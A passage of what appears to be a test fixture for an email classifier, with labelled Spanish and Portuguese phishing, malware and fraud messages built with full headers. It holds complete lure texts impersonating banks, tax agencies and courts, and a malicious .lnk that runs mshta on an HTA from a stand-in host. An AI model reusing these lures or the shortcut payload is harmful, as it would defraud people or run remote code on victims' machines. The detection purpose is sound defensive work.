      messageId: 'dgt.1747124561.4c2e@dgt-sanciones-tramite.com',
      dkim: ['dgt-sanciones-tramite.com:s1'],
      relay: 'mta2.dgt-sanciones-tramite.com [203.0.113.18]',
      auth: { dmarc: 'none' },
      body: multipart('related', [
        html(
          '<html><body style="margin:0"><center><a href="https://dgt-sanciones-tramite.com/pago/2025-MD-048213"><img src="cid:multa@dgt" width="600" height="780" border="0" alt=""></a></center></body></html>',
        ),
        inlineImage('multa@dgt', 'notificacion.jpg', JPEG),
      ]),
    }),
  },
  {
    name: 'Agencia Tributaria: devolución de 281,40 € pendiente, remitente falsificado, enlace en web.app',
    lang: 'es',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Agencia Tributaria <notificaciones@agenciatributaria.es>',
      to: 'José Luis Romero <joseluis.romero@telefonica.net>',
      subject: 'Tiene una devolución pendiente de 281,40 €',
      date: 'Mon, 16 Jun 2025 07:48:09 +0200',
      messageId: '8e1c2f7a9b3d@srv-mail-52.example.org',
      returnPath: 'www-data@srv-mail-52.example.org',
      relay: 'srv-mail-52.example.org [198.51.100.52]',
      auth: { dkim: 'none', spf: 'fail', dmarc: 'fail' },
      body: document(
        [
          { heading: 'Devolución de la Renta 2024' },
          'Estimado/a contribuyente:',
          'Tras el cálculo anual de su actividad fiscal, hemos determinado que tiene derecho a recibir una devolución de 281,40 €. Para recibirla debe confirmar los datos de la tarjeta o cuenta donde desea el abono en un plazo de 3 días hábiles; pasado ese plazo la devolución quedará anulada.',
          { button: 'Solicitar devolución', href: 'https://aeat-devoluciones-2025.web.app/solicitud' },
          { small: 'Agencia Estatal de Administración Tributaria. Este es un mensaje automático, no responda.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'CaixaBank: nuevo dispositivo registrado en CaixaBankNow, "cancele el registro si no ha sido usted"',
    lang: 'es',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'CaixaBank <avisos@caixabank-seguridad-clientes.info>',
      to: 'Montserrat Puig <montse.puig@gmail.com>',
      subject: 'Se ha registrado un nuevo dispositivo en CaixaBankNow',
      date: 'Wed, 5 Feb 2025 22:41:07 +0100',
      messageId: '20250205214107.6a1f@caixabank-seguridad-clientes.info',
      dkim: ['caixabank-seguridad-clientes.info:mail'],
      relay: 'smtp.caixabank-seguridad-clientes.info [203.0.113.201]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Estimado/a cliente:',
          'Le informamos de que se ha vinculado un nuevo dispositivo (Samsung Galaxy S24) a su acceso de CaixaBankNow el 05/02/2025 a las 22:37.',
          'Si ha sido usted, no tiene que hacer nada. Si no reconoce este dispositivo, cancele el registro de inmediato; de lo contrario, el nuevo dispositivo podrá autorizar operaciones y Bizum desde su cuenta.',
          { button: 'No he sido yo – cancelar registro', href: 'https://caixabank-seguridad-clientes.info/now/cancelar?id=55183' },
          { small: 'CaixaBank, S.A. Calle Pintor Sorolla, 2-4, 46002 Valencia. Por su seguridad, no responda a este correo.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // A reform company's Brevo account, hijacked: Brevo signs, the list headers and the
    // company's footer are real, the display name and the text are BBVA's.
    name: 'BBVA: "tarjeta restringida" enviada desde la cuenta de Brevo secuestrada de una empresa de reformas',
    lang: 'es',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'BBVA <info@reformasalcazar.es>',
      to: 'Pedro Sánchez Gil <pedro.sanchezgil@yahoo.es>',
      subject: 'Su tarjeta ha sido restringida temporalmente',
      date: 'Fri, 7 Mar 2025 19:30:00 +0000',
      messageId: '202503071930.27381946102@smtp-relay.mailin.fr',
      dkim: ['reformasalcazar.es:brevo1', 'sendinblue.com:mail'],
      returnPath: 'bounces-227381946-pedro.sanchezgil=yahoo.es@sendibt3.com',
      relay: 'ixqplzt.r.sendibt3.com [77.32.148.33]',
      headers: [
        'List-Unsubscribe: <https://r.sendibt3.com/mk/un/v2/sh/3Ux7Kq2Lm9Rz5Nw/Jt8Vb1Xc4>, <mailto:unsubscribe@sendibt3.com?subject=unsubscribe>',
        LIST_UNSUBSCRIBE_POST,
        'X-Mailin-Campaign: 27',
        'X-Mailin-Client: 2738194',
        'Feedback-ID: 77.32.148.33:2738194_-1:2738194:Sendinblue',
      ],
      body: document(
        [
          { heading: 'Aviso de seguridad' },
          'Estimado cliente:',
          'Hemos detectado un intento de pago no habitual con su tarjeta y, por su seguridad, la hemos restringido temporalmente. Para reactivarla debe confirmar su identidad y sus datos de acceso antes de 24 horas. Si no lo hace, la tarjeta quedará cancelada.',
          { button: 'Confirmar identidad', href: 'https://r.sendibt3.com/mk/cl/f/sh/3Ux7Kq2Lm9Rz5Nw/Qa6Ws3Ed8' },
          'Gracias por confiar en BBVA.',
          {
            small:
              'Recibe este correo porque es cliente o ha solicitado presupuesto a Reformas Alcázar S.L., C/ Toledo 44, 13600 Alcázar de San Juan. [Darse de baja](https://r.sendibt3.com/mk/un/v2/sh/3Ux7Kq2Lm9Rz5Nw/Jt8Vb1Xc4)',
          },
        ],
        { lang: 'es', preheader: 'Confirme su identidad en 24 horas' },
      ),
    }),
  },
  {
    name: 'Juzgado de Primera Instancia: "citación" en ZIP con un JScript que descarga un troyano',
    lang: 'es',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Juzgado de Primera Instancia nº 4 <notificaciones@juzgados-notificacion.com>',
      to: 'Carmen Vázquez <administracion@talleresvazquez.es>',
      subject: 'Citación judicial – Procedimiento Ordinario 381/2025',
      date: 'Tue, 18 Mar 2025 09:05:33 +0100',
      messageId: '20250318080533.51C2A@juzgados-notificacion.com',
      dkim: ['juzgados-notificacion.com:default'],
      relay: 'mail.juzgados-notificacion.com [192.0.2.94]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        plain(
          'Por medio de la presente se le notifica la citación en el Procedimiento Ordinario 381/2025 seguido en este Juzgado contra su empresa.\n\nDebe comparecer en el plazo de 10 días. Se adjunta la cédula de citación y la demanda.\n\nLetrado de la Administración de Justicia\nJuzgado de Primera Instancia nº 4',
        ),
        attachment('Cedula_Citacion_PO_381-2025.zip', 'application/zip', zip({ 'Cedula_Citacion_PO_381-2025.pdf.js': JS_DOWNLOADER })),
      ]),
    }),
  },
  {
    name: 'Netflix: problema con el pago, enviado desde la cuenta de Mailchimp secuestrada de una academia de idiomas',
    lang: 'es',
    lure: 'streaming',
    expect: ['phishing'],
    raw: mail({
      from: 'Netflix <hola@academiavalledeidiomas.es>',
      to: 'Sergio Herrera <sergio.herrera.b@gmail.com>',
      subject: 'Tu cuenta está en espera: actualiza tu método de pago',
      date: 'Thu, 20 Feb 2025 17:12:08 +0000',
      messageId: 'a7c3e9f1b2d4c6e8f0a1b3c5d7e9f1a2.20250220171208@mail188.atl61.mcsv.net',
      dkim: ['academiavalledeidiomas.es:k1', 'mcsv.net:k3'],
      returnPath: 'bounce-mc.us8_77312045.9921347-3f1a7c2e9b@mail188.atl61.mcsv.net',
      relay: 'mail188.atl61.mcsv.net [198.2.136.188]',
      headers: [
        'List-Unsubscribe: <https://academiavalledeidiomas.us8.list-manage.com/unsubscribe?u=e2c9a71f4b3d8e06a5c1b7d2f&id=4c8e2a1f9b&t=b&e=3f1a7c2e9b&c=7b1d9e3a5c>',
        LIST_UNSUBSCRIBE_POST,
        'List-ID: e2c9a71f4b3d8e06a5c1b7d2fmc list <e2c9a71f4b3d8e06a5c1b7d2f.9921347.list-id.mcsv.net>',
        'X-Mailer: Mailchimp Mailer - **CID7b1d9e3a5c3f1a7c2e9b**',
        'X-MC-User: e2c9a71f4b3d8e06a5c1b7d2f',
        'Feedback-ID: 77312045:77312045.9921347:us8:mc',
      ],
      body: document(
        [
          { heading: 'Tu membresía está en espera' },
          'Hola, Sergio:',
          'No hemos podido procesar el último pago de tu suscripción. Para seguir viendo tus series y películas, actualiza tu método de pago en las próximas 48 horas; si no, tu cuenta se cancelará.',
          {
            button: 'Actualizar pago',
            href: 'https://academiavalledeidiomas.us8.list-manage.com/track/click?u=e2c9a71f4b3d8e06a5c1b7d2f&id=9d2f4b6a8c&e=3f1a7c2e9b',
          },
          '— El equipo de Netflix',
          {
            small:
              'Copyright © 2025 Academia Valle de Idiomas, todos los derechos reservados. Recibes este correo porque te inscribiste en nuestros cursos. Nuestra dirección: Av. de la Constitución 12, 41001 Sevilla. [Darse de baja](https://academiavalledeidiomas.us8.list-manage.com/unsubscribe?u=e2c9a71f4b3d8e06a5c1b7d2f&id=4c8e2a1f9b&e=3f1a7c2e9b)',
          },
        ],
        { lang: 'es', preheader: 'Actualiza tu pago en 48 horas' },
      ),
    }),
  },
  {
    // Task scams: "rate products from home", then the victim pays to "unlock" tasks.
    name: 'Oferta de empleo: 250–800 € al día valorando productos, contactar por WhatsApp',
    lang: 'es',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Recursos Humanos <rrhh.seleccion.online24@gmail.com>',
      to: 'lucia.moreno.perez@hotmail.com',
      subject: 'Trabajo a tiempo parcial desde casa – 250 € a 800 € al día',
      date: 'Sat, 10 May 2025 12:44:20 +0000',
      messageId: 'CAHn6Kq1Xz8Nw3Rb5Vt7Lc2Hd4Fs9Ay1Ge6Ko3Mn7Tq5Zx2@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f41.google.com [209.85.220.41]',
      body: gmailBody(
        [
          'Hola,',
          '',
          'Hemos obtenido su contacto de una plataforma de empleo. Nuestra agencia busca personas para un trabajo a tiempo parcial desde casa: solo tiene que valorar productos de comercios online con su móvil, entre 30 y 60 minutos al día.',
          '',
          'Salario: de 250 € a 800 € al día, pago diario. No se necesita experiencia. Mayores de 23 años.',
          '',
          'Si le interesa, escriba "trabajo" a nuestra coordinadora por WhatsApp: +34 631 48 27 90 (solo mensajes). Plazas limitadas.',
          '',
          'Un saludo,',
          'Departamento de Selección',
        ].join('\n'),
      ),
    }),
  },
  {
    // Compromised construction company sends a quota notice that links to Google Sites.
    name: 'Buzón lleno al 98 %: aviso desde una constructora comprometida con enlace a Google Sites',
    lang: 'es',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Administrador del correo <admin@construccionesbermudez.es>',
      to: 'Elena Prieto <elena.prieto@gestoriaprieto.es>',
      subject: 'Aviso: su buzón ha alcanzado el 98 % de su capacidad',
      date: 'Mon, 17 Nov 2025 08:55:14 +0100',
      messageId: '691ad4c2.5e1c.4a9b@construccionesbermudez.es',
      dkim: ['construccionesbermudez.es:default'],
      relay: 'cp-web41.dinahosting.com [192.0.2.41]',
      body: document(
        [
          'Estimado usuario elena.prieto@gestoriaprieto.es,',
          'Su buzón de correo ha alcanzado el 98 % de su capacidad. Los mensajes entrantes se están reteniendo y se eliminarán en 48 horas.',
          'Para liberar espacio y recibir sus mensajes pendientes, verifique su cuenta de correo a continuación.',
          { button: 'Verificar cuenta', href: 'https://sites.google.com/view/webmail-verificacion-es/inicio' },
          { small: 'Administración del servidor de correo. Mensaje generado automáticamente.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'Binance: "su retirada de 1.245 USDT está en camino", desactivar la cuenta si no fue usted',
    lang: 'es',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Binance <do-not-reply@binance-retiradas.com>',
      to: 'Raúl Domínguez <raul.dominguez.c@gmail.com>',
      subject: '[Binance] Retirada de 1.245,00 USDT en curso',
      date: 'Sun, 28 Sep 2025 03:12:58 +0000',
      messageId: 'bnc.1759029178.91e2@binance-retiradas.com',
      dkim: ['binance-retiradas.com:s1'],
      relay: 'smtp.binance-retiradas.com [198.51.100.88]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Retirada en curso' },
          'Ha solicitado una retirada de 1.245,00 USDT desde su cuenta. Sus fondos están en camino.',
          {
            rows: [
              ['Importe', '1.245,00 USDT'],
              ['Red', 'TRC20'],
              ['Dirección', 'TQ8m4Kx2Lz9Nw7Rb3Vt1Yc5Hd6Fs0Ay2G'],
              ['Fecha', '2025-09-28 03:11:42 (UTC)'],
            ],
          },
          'Si no ha realizado esta operación, desactive su cuenta inmediatamente desde el siguiente enlace para detener la retirada.',
          { button: 'Desactivar mi cuenta', href: 'https://binance-retiradas.com/es/desactivar?ref=WD81247' },
          { small: 'Binance nunca le pedirá su contraseña por teléfono. Este es un correo automático.' },
        ],
        { lang: 'es' },
      ),
    }),
  },

  // ---------------------------------------------------------------- Portuguese (Brazil)
  {
    // PJe "intimação" lures copy the court's wording and link to a page that drops malware or
    // harvests; the tribunal is named, but nothing comes from jus.br.
    name: 'PJe: "intimação eletrônica" do TJSP de um domínio descartável, mandado num bucket do Google Cloud',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'PJe - Tribunal de Justiça <intimacao@pje-tjsp-intimacoes.com>',
      to: 'Fabiana Rocha <fabiana.rocha@rochamoveis.com.br>',
      subject: 'Intimação Eletrônica – Processo nº 1004821-37.2025.8.26.0100',
      date: 'Wed, 9 Apr 2025 06:47:30 -0300',
      messageId: '20250409094730.9f1c@pje-tjsp-intimacoes.com',
      dkim: ['pje-tjsp-intimacoes.com:default'],
      relay: 'mail.pje-tjsp-intimacoes.com [203.0.113.66]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'PODER JUDICIÁRIO – TRIBUNAL DE JUSTIÇA DO ESTADO DE SÃO PAULO' },
          'Processo nº 1004821-37.2025.8.26.0100 – Ação de Cobrança',
          'Fica Vossa Senhoria INTIMADO(A) a comparecer ou a se manifestar no prazo de 5 (cinco) dias úteis, sob pena de revelia e de bloqueio de bens via SISBAJUD.',
          { button: 'Visualizar Mandado de Intimação', href: 'https://storage.googleapis.com/pje-mandados-2025/Mandado_Intimacao_1004821.html' },
          { small: 'Processo Judicial Eletrônico – PJe. Documento assinado eletronicamente. Não responda a este e-mail.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Receita Federal: restituição do IRPF 2025 "retida", informar dados bancários em 48 horas',
    lang: 'pt-BR',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Receita Federal <restituicao@receita-restituicao.online>',
      to: 'Sandra Oliveira <sandra.oliveira62@bol.com.br>',
      subject: 'Sua restituição de R$ 1.482,37 está retida – regularize',
      date: 'Tue, 15 Jul 2025 11:03:22 -0300',
      messageId: 'rfb.1752588202.4e9c@receita-restituicao.online',
      dkim: ['receita-restituicao.online:mail'],
      relay: 'smtp.receita-restituicao.online [198.51.100.31]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Restituição retida' },
          'Prezado(a) contribuinte,',
          'Sua restituição do Imposto de Renda 2025, no valor de R$ 1.482,37, foi incluída no lote de julho, mas está retida por divergência nos dados bancários informados na declaração.',
          'Para liberar o crédito, confirme seus dados bancários e sua chave Pix em até 48 horas. Após o prazo, o valor retorna ao Tesouro Nacional.',
          { button: 'Liberar restituição', href: 'https://receita-restituicao.online/consulta/liberar' },
          { small: 'Secretaria Especial da Receita Federal do Brasil.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Pix "retido por segurança": confirmar a chave e o código do app para receber R$ 1.250,00',
    lang: 'pt-BR',
    lure: 'payment-app',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Pix - Banco Central <pix@bcb-pix-seguranca.com>',
      to: 'Roberto Nunes <roberto.nunes.sp@gmail.com>',
      subject: 'Você recebeu um Pix de R$ 1.250,00 – retido para confirmação',
      date: 'Fri, 22 Aug 2025 18:20:14 -0300',
      messageId: '1755897614.52c1@bcb-pix-seguranca.com',
      dkim: ['bcb-pix-seguranca.com:s1'],
      relay: 'mx.bcb-pix-seguranca.com [203.0.113.97]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Pix recebido – aguardando confirmação' },
          'Olá, Roberto. Você recebeu uma transferência Pix de R$ 1.250,00, mas, por segurança, o valor foi retido pelo Mecanismo Especial de Devolução (MED).',
          'Para liberar o crédito na sua conta, confirme sua chave Pix, a senha do aplicativo do seu banco e o código de segurança recebido por SMS.',
          { button: 'Confirmar e receber', href: 'https://bcb-pix-seguranca.com/liberar?tx=E0000000020250822' },
          { small: 'Banco Central do Brasil – Pix. Não compartilhe esta mensagem.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Bradesco: "seu dispositivo foi desabilitado", reativar a chave de segurança no link',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Bradesco <comunicado@bradesco-chave-seguranca.com>',
      to: 'Márcia Ferreira <marcia.ferreira.bh@terra.com.br>',
      subject: 'Bradesco: seu dispositivo de segurança foi desabilitado',
      date: 'Mon, 3 Mar 2025 07:36:41 -0300',
      messageId: '20250303103641.bd71@bradesco-chave-seguranca.com',
      dkim: ['bradesco-chave-seguranca.com:mail'],
      relay: 'mta.bradesco-chave-seguranca.com [192.0.2.148]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Prezado(a) cliente,',
          'Identificamos que a sua Chave de Segurança Bradesco está desatualizada e foi desabilitada. A partir de hoje, transações por Pix, TED e pagamentos estarão bloqueadas até a reativação.',
          'Reative agora informando agência, conta e senha de 4 dígitos do cartão.',
          { button: 'Reativar dispositivo', href: 'https://bradesco-chave-seguranca.com/reativar' },
          { small: 'Banco Bradesco S.A. – Cidade de Deus, Osasco/SP.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Trust Wallet: "validação obrigatória" pedindo as 12 palavras da frase de recuperação',
    lang: 'pt-BR',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Trust Wallet <suporte@trustwallet-validacao.app>',
      to: 'Thiago Mendes <thiago.mendes.cripto@gmail.com>',
      subject: 'Validação obrigatória da sua carteira até 30/06',
      date: 'Thu, 26 Jun 2025 21:08:55 -0300',
      messageId: 'tw.1750982935.6a1e@trustwallet-validacao.app',
      dkim: ['trustwallet-validacao.app:mail'],
      relay: 'smtp.trustwallet-validacao.app [203.0.113.177]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Validação de carteira' },
          'Olá,',
          'Por exigência da nova regulamentação de criptoativos do Banco Central, todas as carteiras devem ser validadas até 30/06/2025. Carteiras não validadas terão os saques suspensos.',
          'Para validar, importe sua carteira informando as 12 palavras da sua frase de recuperação. O processo leva menos de um minuto.',
          { button: 'Validar minha carteira', href: 'https://trustwallet-validacao.app/validar' },
          { small: '© 2025 Trust Wallet. Todos os direitos reservados.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Clicksign imitado: "contrato aguardando sua assinatura" via SendGrid de um domínio parecido',
    lang: 'pt-BR',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Clicksign <naoresponda@clicksign-documentos.com>',
      to: 'Eduardo Pacheco <eduardo@pachecoconsultoria.com.br>',
      subject: 'Aditivo_Contratual_2025.pdf aguardando sua assinatura',
      date: 'Tue, 21 Oct 2025 14:22:09 -0300',
      messageId: 'Hq3Lm8Rz2Nw6Vb1Xc7Mp4T@geopod-ismtpd-9',
      dkim: ['clicksign-documentos.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+51127734-a1c2-eduardo=pachecoconsultoria.com.br@em3311.clicksign-documentos.com',
      relay: 'o3.ptr3311.clicksign-documentos.com [149.72.97.33]',
      headers: ['X-SG-EID: u001.Zr5Lm2Qx8Tn1Vb4Kc7Wp0Hd3Fj6As9Gy'],
      body: document(
        [
          { heading: 'Você tem um documento para assinar' },
          'Departamento Jurídico enviou o documento "Aditivo_Contratual_2025.pdf" para você assinar.',
          'Mensagem: "Eduardo, segue o aditivo com os novos valores. Precisamos da assinatura ainda hoje para liberar o pagamento."',
          { button: 'Visualizar para assinar', href: 'https://u51127734.ct.sendgrid.net/ls/click?upn=u001.Pk2Rz8Lm5Nw1Vb7Xc3Mp9T-2Fq4' },
          { small: 'Clicksign – Assinaturas eletrônicas com validade jurídica.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Subject-only lure: the subject carries the whole story, the body is a bare link.
    name: 'Entrega sem marca: assunto diz "pedido retido na fiscalização, pague R$ 27,60 hoje", corpo só com um link',
    lang: 'pt-BR',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Central de Entregas <aviso@rastreio-entregas-br.shop>',
      to: 'patricia.gomes.rj@hotmail.com',
      subject: 'Seu pedido está retido na fiscalização – pague a taxa de R$ 27,60 até hoje',
      date: 'Sat, 6 Dec 2025 09:33:12 -0300',
      messageId: '20251206123312.77ac@rastreio-entregas-br.shop',
      dkim: ['rastreio-entregas-br.shop:s1'],
      relay: 'mail.rastreio-entregas-br.shop [198.51.100.166]',
      auth: { dmarc: 'none' },
      body: plain('https://rastreio-entregas-br.shop/pedido/BR4471829'),
    }),
  },
  {
    name: 'Fatura em ZIP com um atalho .lnk que chama o mshta (trojan bancário)',
    lang: 'pt-BR',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Cobrança <cobranca@distribuidora-santaclara.com.br>',
      to: 'Contas a Pagar <financeiro@padariapaoquente.com.br>',
      subject: 'Fatura 2025/8841 em aberto – 2ª via',
      date: 'Mon, 10 Nov 2025 10:02:44 -0300',
      messageId: '20251110130244.4d7a@distribuidora-santaclara.com.br',
      dkim: ['distribuidora-santaclara.com.br:default'],
      relay: 'mail.distribuidora-santaclara.com.br [203.0.113.208]',
      body: multipart('mixed', [
        plain(
          'Prezados,\n\nSegue em anexo a 2ª via da fatura 2025/8841, vencida em 05/11. Pedimos a gentileza de regularizar para evitar o protesto.\n\nAtenciosamente,\nSetor de Cobrança',
        ),
        attachment(
          'Fatura_2025-8841.zip',
          'application/zip',
          zip({ 'Fatura_2025-8841.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\mshta.exe', 'https://cdn-fatura.example.net/f.hta') }),
        ),
      ]),
    }),
  },
  {
    name: 'Golpe do amor: "engenheiro em plataforma de petróleo" pede R$ 6.800 para liberar a bagagem',
    lang: 'pt-BR',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Richard Lehmann <richard.lehmann.eng@outlook.com>',
      to: 'Vera Lúcia Campos <veralucia.campos@uol.com.br>',
      subject: 'Meu amor, preciso da sua ajuda',
      date: 'Wed, 12 Feb 2025 23:47:05 +0000',
      messageId: 'PAXP193MB1733E4A2B5C6D7E8F9A0B1C2D3E4F@PAXP193MB1733.EURP193.PROD.OUTLOOK.COM',
      dkim: ['outlook.com:selector1'],
      relay: 'EUR03-DBA-obe.outbound.protection.outlook.com [40.92.59.44]',
      body: plain(
        [
          'Minha querida Vera,',
          '',
          'Cada dia que passa tenho mais certeza de que Deus colocou você no meu caminho. Terminei meu contrato na plataforma e já estou em Londres, esperando o voo para São Paulo para finalmente te conhecer.',
          '',
          'Mas aconteceu um problema: a alfândega reteve minha bagagem com o meu ouro e os documentos, e só liberam depois do pagamento de uma taxa de R$ 6.800. Meus cartões estão bloqueados aqui na Inglaterra e não tenho mais ninguém a quem pedir.',
          '',
          'Você poderia fazer um Pix para o despachante? Assim que chegar aí eu te devolvo tudo em dobro. Não conte para ninguém, eles não entenderiam o nosso amor.',
          '',
          'Chave Pix do despachante: despachante.liberacao@gmail.com',
          '',
          'Com todo o meu amor,',
          'Richard',
        ].join('\n'),
      ),
    }),
  },
  {
    // A driving school's ActiveCampaign account, hijacked: the tracker hides the destination in
    // base64, the FGTS lure rides on the account's genuine signing and list headers.
    name: 'CAIXA: "saque do FGTS liberado" pela conta ActiveCampaign sequestrada de uma autoescola',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'CAIXA - FGTS <contato@autoescolanovaera.com.br>',
      to: 'Adriana Silva <adriana.silva.85@gmail.com>',
      subject: 'Saque Extraordinário do FGTS liberado: R$ 1.412,00 disponível',
      date: 'Thu, 30 Oct 2025 12:05:27 -0300',
      messageId: '20251030150527.1188.47.61A2@s6.csa1.acems1.com',
      dkim: ['autoescolanovaera.com.br:dk', 'acems1.com:dk'],
      returnPath: 'bounce-47-1188-1001188-8a1c2e@s6.csa1.acems1.com',
      relay: 's6.csa1.acems1.com [192.92.97.206]',
      headers: [
        'List-Unsubscribe: <https://autoescolanovaera.activehosted.com/proc.php?nl=1&c=47&m=61&s=9f2e7a1c3b8d4e6f0a5b2c9d7e1f3a4b&act=unsub>',
        LIST_UNSUBSCRIBE_POST,
        'X-mid: YWRyaWFuYS5zaWx2YS44NUBnbWFpbC5jb20gLCBjNDcgLCBtNjEgLCBzMTAwMTE4OA',
        'Feedback-ID: 1001188:c47:m61:ActiveCampaign',
      ],
      body: document(
        [
          { heading: 'Saque Extraordinário do FGTS' },
          'Olá, trabalhador(a)!',
          'Você tem R$ 1.412,00 disponíveis para saque nas contas do FGTS. Para receber, confirme seus dados e a conta para crédito até 05/11/2025. Após essa data, o valor volta para a conta vinculada.',
          { button: 'Consultar e sacar', href: activeCampaignLink('autoescolanovaera', 'https://fgts-saque-caixa.com.br/consulta?cpf=') },
          {
            small:
              'Você está recebendo este e-mail porque se cadastrou na Autoescola Nova Era. Rua Sete de Setembro, 410 – Campinas/SP. [Cancelar inscrição](https://autoescolanovaera.activehosted.com/proc.php?nl=1&c=47&m=61&s=9f2e7a1c3b8d4e6f0a5b2c9d7e1f3a4b&act=unsub)',
          },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },

  // ---------------------------------------------------------------- Portuguese (Portugal)
  {
    name: 'Polícia Judiciária: "convocatória" em PDF por crimes sexuais, responder a um endereço gratuito',
    lang: 'pt-PT',
    lure: 'authority',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Policia Judiciaria <pj.cibercrime.unc3t@sapo.pt>',
      to: 'Rui Carvalho <rui.carvalho.lx@gmail.com>',
      replyTo: 'UNC3T Convocatorias <convocatoria.unc3t.pj@mail.com>',
      subject: 'CONVOCATÓRIA – Processo-crime n.º 1187/25.4JAPRT',
      date: 'Mon, 19 May 2025 09:41:02 +0100',
      messageId: '1747644062.36218.pj.cibercrime.unc3t@sapo.pt',
      dkim: ['sapo.pt:sapo2024'],
      relay: 'smtp.sapo.pt [213.13.146.73]',
      body: multipart('mixed', [
        plain(
          'Exmo.(a) Senhor(a),\n\nSegue em anexo a convocatória referente ao processo-crime acima indicado. Tem 48 horas para apresentar a sua justificação por escrito.\n\nUnidade Nacional de Combate ao Cibercrime',
        ),
        attachment(
          'Convocatoria_PJ_1187-25.pdf',
          'application/pdf',
          textPdf([
            'REPUBLICA PORTUGUESA - POLICIA JUDICIARIA',
            'UNIDADE NACIONAL DE COMBATE AO CIBERCRIME E A CRIMINALIDADE TECNOLOGICA',
            'CONVOCATORIA',
            'Na sequencia de uma ciberinfiltracao autorizada pelo Ministerio Publico, foram detetados',
            'acessos do seu computador a conteudos de pornografia infantil e exibicionismo.',
            'Dispoe de 48 horas para enviar a sua justificacao para convocatoria.unc3t.pj@mail.com.',
            'Na ausencia de resposta, o processo sera remetido ao Tribunal e sera emitido',
            'um mandado de detencao, com divulgacao do seu nome na comunicacao social.',
            'O Diretor Nacional',
          ]),
        ),
      ]),
    }),
  },
  {
    name: 'Autoridade Tributária: processo de execução fiscal com penhora iminente, pagar pela referência no link',
    lang: 'pt-PT',
    lure: 'tax',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Portal das Finanças <notificacoes@portaldasfinancas.gov.pt>',
      to: 'Ana Sofia Marques <anasofia.marques@netcabo.pt>',
      subject: 'Citação: Processo de Execução Fiscal n.º 3514202501048813',
      date: 'Wed, 12 Mar 2025 08:27:36 +0000',
      messageId: '3514202501048813.7c1e@vps-pt-19.example.net',
      returnPath: 'apache@vps-pt-19.example.net',
      relay: 'vps-pt-19.example.net [192.0.2.19]',
      auth: { dkim: 'none', spf: 'fail', dmarc: 'fail' },
      body: document(
        [
          { heading: 'Processo de Execução Fiscal' },
          'Exmo.(a) Contribuinte,',
          'Fica citado(a) de que foi instaurado contra si o processo de execução fiscal n.º 3514202501048813, por dívida de IUC não paga, no montante de 148,62 €.',
          'Dispõe de 5 dias para efetuar o pagamento. Findo este prazo, será ordenada a penhora de saldos bancários e de vencimentos.',
          { button: 'Consultar e pagar', href: 'https://financas-execucao-fiscal.com/pt/pagamento?proc=3514202501048813' },
          { small: 'Autoridade Tributária e Aduaneira. Esta mensagem foi gerada automaticamente.' },
        ],
        { lang: 'pt-PT' },
      ),
    }),
  },
  {
    name: 'Millennium bcp: novo dispositivo associado à app, cancelar no link se não foi o próprio',
    lang: 'pt-PT',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Millennium bcp <alertas@millennium-seguranca.pt.com>',
      to: 'João Pereira <joao.pereira.porto@gmail.com>',
      subject: 'Novo dispositivo associado à sua conta',
      date: 'Thu, 9 Oct 2025 23:14:50 +0100',
      messageId: 'mbcp.1760048090.2f7a@millennium-seguranca.pt.com',
      dkim: ['millennium-seguranca.pt.com:mail'],
      relay: 'mail.millennium-seguranca.pt.com [203.0.113.129]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Caro(a) Cliente,',
          'Foi associado um novo dispositivo (iPhone 15) à app Millennium em 09/10/2025, às 23:09.',
          'Se não reconhece esta associação, cancele-a de imediato. Caso contrário, o novo dispositivo poderá autorizar transferências e pagamentos MB WAY a partir da sua conta.',
          { button: 'Cancelar associação', href: 'https://millennium-seguranca.pt.com/cancelar?d=88213' },
          { small: 'Banco Comercial Português, S.A. Nunca lhe pediremos códigos por e-mail.' },
        ],
        { lang: 'pt-PT' },
      ),
    }),
